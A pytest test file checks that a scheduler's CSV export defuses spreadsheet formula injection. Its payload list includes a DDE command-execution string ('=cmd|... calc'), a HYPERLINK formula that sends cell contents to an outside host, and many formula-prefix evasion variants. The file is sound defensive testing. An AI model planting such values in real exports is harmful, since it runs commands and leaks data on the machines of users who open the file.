"""Lines of CSV in which nothing calculates (bar-L10)."""

import csv
import io

import pytest

from scheduler.domain.csv_cells import inert, lines

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"see")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "a;=1+1",
    'a",=1+1,"',
    "a\n=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_as_a_formula_does(payload: str) -> None:
    read = list(csv.reader(io.StringIO(lines([("before", payload, "after")]), "")))
    assert len(read) == 1
    assert [read[0][0], read[0][2]] == ["before", "after"]
    assert read[0][1].strip()[:1] not in set("=+-@\t\r|%\uff1d\uff0b\uff0d\uff20")
    assert read[0][1].removeprefix("'") == payload


@pytest.mark.parametrize("plain", ["", "Cora", "K-1042", "3 = three", "a+b", "1"])
def test_what_calculates_nothing_stays_as_it_is(plain: str) -> None:
    assert inert(plain) == plain


def test_figures_stay_figures_and_nothing_is_an_empty_cell() -> None:
    assert lines([("a", 7, None)]) == '"a","7",""\r\n'
